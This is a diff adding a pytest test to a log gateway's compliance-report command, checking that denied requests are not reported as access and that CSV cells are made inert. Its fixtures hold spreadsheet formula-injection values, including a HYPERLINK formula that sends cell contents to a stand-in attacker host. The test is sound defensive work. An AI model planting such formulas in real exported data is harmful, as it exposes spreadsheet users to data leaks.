@@ -141,3 +141,64 @@ def test_bad_periods_are_refused(world: Path) -> None:
         str(world / "logs"),
     )
     assert code == 2 and "--to must be after --from" in stderr
+
+
+def _line(**fields: object) -> str:
+    base: dict[str, object] = {"v": 1, "instance": "gw-1", "conn": "c1", "listener": "public"}
+    base.update(client_host="203.0.113.5", client_port=5000, tenant="ta")
+    return json.dumps({**base, **fields})
+
+
+def test_refused_parts_are_not_access_and_cells_are_inert(tmp_path: Path) -> None:
+    logs = tmp_path / "logs"
+    logs.mkdir()
+    request = {"type": "request", "event": "request", "principal": "User:ta-app"}
+    request.update(api="fetch", api_version=12, groups=[], transactional_ids=[], partitions=2)
+    lines = [
+        _line(
+            ts="2026-11-18T10:00:00.000Z",
+            **request,
+            topics=["ta.ok", "ta.secret"],
+            denied=["topic:ta.secret"],
+            decision="partial",
+            error_code=0,
+            bytes_in=100,
+            bytes_out=5000,
+        ),
+        _line(
+            ts="2026-11-18T10:01:00.000Z",
+            **{**request, "client_id": "=cmd"},
+            topics=["@SUM(1+1)"],
+            denied=["topic:@SUM(1+1)"],
+            decision="deny",
+            error_code=29,
+            bytes_in=50,
+            bytes_out=40,
+        ),
+        _line(
+            ts="2026-11-18T10:02:00.000Z",
+            type="connection",
+            event="auth",
+            principal="User:ANONYMOUS",
+            sasl_mechanism="PLAIN",
+            outcome="failure",
+            reason="unknown_key",
+            claimed='=HYPERLINK("http://evil.example/?"&A1,"open")',
+        ),
+    ]
+    (logs / "access.log").write_text("\n".join(lines) + "\n")
+    out = tmp_path / "out"
+    code, _, stderr = kgw(
+        "report", "compliance", "--from", "2026-11-18", "--to", "2026-11-18",
+        "--logs", str(logs), "--out", str(out), "--quiet",
+    )  # fmt: skip
+    assert code == 0, stderr
+    with open(out / "access.csv", newline="") as handle:
+        access = list(csv.DictReader(handle))
+    assert [(r["topic"], r["request_bytes"]) for r in access] == [("ta.ok", "5100")]
+    with open(out / "denied.csv", newline="") as handle:
+        denied = {r["kind"]: r for r in csv.DictReader(handle)}
+    assert denied["authorization"]["resources"] == "topic:@SUM(1+1)"
+    assert denied["authentication"]["principal"].startswith("'=HYPERLINK(")
+    for row in denied.values():  # no cell a spreadsheet would run
+        assert not any(v.startswith(("=", "+", "@")) for v in row.values() if v)
